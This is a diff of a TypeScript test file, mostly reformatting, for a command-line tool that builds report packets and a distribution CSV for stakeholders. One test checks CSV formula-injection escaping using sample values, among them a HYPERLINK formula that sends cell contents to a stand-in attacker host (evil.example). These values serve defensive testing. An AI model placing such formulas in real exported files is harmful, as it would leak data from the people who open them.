@@ -9,7 +9,8 @@ import { hasTool, pdfText, runCli, scratchProject, YEAR } from '../helpers/cli.j
 
 let dir: string;
 const packets = () => join(dir, `out/${YEAR}/packets`);
-const distribution = () => parse(readFileSync(join(packets(), 'distribution.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
+const distribution = () =>
+  parse(readFileSync(join(packets(), 'distribution.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
 
 function allFiles(root: string): string[] {
   const out: string[] = [];
@@ -30,7 +31,9 @@ beforeAll(() => {
   expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
   expect(r.status).toBe(0);
   // Nothing is published in a fresh project: the packets say which unfrozen revision they carry.
-  expect(r.stderr).toMatch(/stakeholders\.csv\s+warning\s+packets\/unpublished\s+the packets carry revision 1, which is not published yet/);
+  expect(r.stderr).toMatch(
+    /stakeholders\.csv\s+warning\s+packets\/unpublished\s+the packets carry revision 1, which is not published yet/,
+  );
 }, 240_000);
 
 describe.skipIf(!hasTool('pdftotext'))('packets', () => {
@@ -44,13 +47,27 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
       `HLSD-${YEAR}-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf`,
       `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`,
     ]);
-    expect(Object.keys(rows[0]!)).toEqual(['recipient', 'organisation', 'email', 'language', 'format', 'scope', 'goals', 'actions', 'file', 'sha256', 'revision']);
+    expect(Object.keys(rows[0]!)).toEqual([
+      'recipient',
+      'organisation',
+      'email',
+      'language',
+      'format',
+      'scope',
+      'goals',
+      'actions',
+      'file',
+      'sha256',
+      'revision',
+    ]);
     for (const row of rows) {
       expect(sha256Hex(readFileSync(join(packets(), row.file!)))).toBe(row.sha256);
       expect(row.revision).toBe('1');
     }
     // A full report is the build's own file, byte for byte.
-    expect(readFileSync(join(packets(), `HLSD-${YEAR}-annual-report-r1-ES.pdf`))).toEqual(readFileSync(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`)));
+    expect(readFileSync(join(packets(), `HLSD-${YEAR}-annual-report-r1-ES.pdf`))).toEqual(
+      readFileSync(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`)),
+    );
   });
 
   it('an excerpt holds only the requested goal and actions, with cover, contents and methodology', () => {
@@ -63,11 +80,15 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
     expect(text).toMatch(/Metodología/);
     // Action sections (headings "Acción N: …" at the start of a line); the goal's milestone table may name other actions.
     expect(new Set([...text.matchAll(/^\s*Acción (\d+): /gm)].map((m) => m[1]))).toEqual(new Set(['7', '8']));
-    for (const left of ['Resumen ejecutivo', 'Historial de revisiones', 'Glosario de siglas']) expect(flat).not.toContain(left);
+    for (const left of ['Resumen ejecutivo', 'Historial de revisiones', 'Glosario de siglas'])
+      expect(flat).not.toContain(left);
     const full = pdfText(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`));
     expect(full.length).toBeGreaterThan(text.length * 1.5);
 
-    const en = readFileSync(join(packets(), `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`), 'utf8');
+    const en = readFileSync(
+      join(packets(), `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`),
+      'utf8',
+    );
     const visible = en.replace(/<style[\s\S]*?<\/style>/g, '').replace(/<[^>]+>/g, ' ');
     expect(new Set([...visible.matchAll(/Action (\d+)/g)].map((m) => m[1]))).toEqual(new Set(['11', '12']));
     expect(visible).not.toMatch(/Goal \d+:/);
@@ -103,8 +124,12 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
       `HLSD-${YEAR}-annual-report-r1-EN.pdf`,
     ]);
     // The sample list's excerpts are gone: only this list's packets remain.
-    expect(readdirSync(packets()).sort()).toEqual([...new Set([...rows.map((x) => x.file!), 'distribution.csv'])].sort());
-    expect(r.stderr).toMatch(new RegExp(`remove\\s+out/${YEAR}/packets/HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst\\.pdf`));
+    expect(readdirSync(packets()).sort()).toEqual(
+      [...new Set([...rows.map((x) => x.file!), 'distribution.csv'])].sort(),
+    );
+    expect(r.stderr).toMatch(
+      new RegExp(`remove\\s+out/${YEAR}/packets/HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst\\.pdf`),
+    );
     expect(rows[1]!.recipient).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
     expect(rows[1]!.organisation).toBe("'@SUM(1+1)");
     expect(rows[2]!.organisation).toBe("'+cmd");
@@ -119,12 +144,19 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
 
   it('reports an invalid list with positions and writes nothing', () => {
     const before = allFiles(dir).map((f) => [f, statSync(join(dir, f)).mtimeMs]);
-    writeFileSync(join(dir, 'bad.csv'), 'recipient,organisation,email,language,format,goals,actions,scope\nAna,Org,,fr,pdf,9,,excerpt\n');
+    writeFileSync(
+      join(dir, 'bad.csv'),
+      'recipient,organisation,email,language,format,goals,actions,scope\nAna,Org,,fr,pdf,9,,excerpt\n',
+    );
     const r = runCli(['packets', '--stakeholders', 'bad.csv'], { cwd: dir });
     expect(r.status).toBe(1);
     expect(r.stderr).toMatch(/bad\.csv:2:\d+\s+error\s+stakeholder\/language/);
     expect(r.stderr).toMatch(/bad\.csv:2:\d+\s+error\s+stakeholder\/goal\s+there is no goal 9/);
     expect(r.stderr).toMatch(/hint:/);
-    expect(allFiles(dir).filter((f) => f !== 'bad.csv').map((f) => [f, statSync(join(dir, f)).mtimeMs])).toEqual(before);
+    expect(
+      allFiles(dir)
+        .filter((f) => f !== 'bad.csv')
+        .map((f) => [f, statSync(join(dir, f)).mtimeMs]),
+    ).toEqual(before);
   }, 120_000);
 });
